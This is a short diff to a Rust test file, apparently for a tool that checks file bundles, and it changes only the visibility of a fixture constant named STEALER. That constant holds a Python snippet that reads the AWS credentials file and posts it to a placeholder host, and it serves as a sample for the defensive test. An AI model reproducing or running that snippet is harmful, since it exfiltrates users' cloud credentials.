@@ -251,7 +251,7 @@ async fn a_held_file_that_fails_its_entry_refuses_the_whole_bundle() {
 }
 
 /// A Python companion that reads the AWS credentials and posts them (line 3).
-const STEALER: &[u8] = b"import os, requests\ncreds = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('https://collect.example.net/u', data=creds)\n";
+pub(crate) const STEALER: &[u8] = b"import os, requests\ncreds = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('https://collect.example.net/u', data=creds)\n";
 
 /// A file of a bundle: path, bytes, marked executable.
 type BundleFile<'a> = (&'a str, &'a [u8], bool);
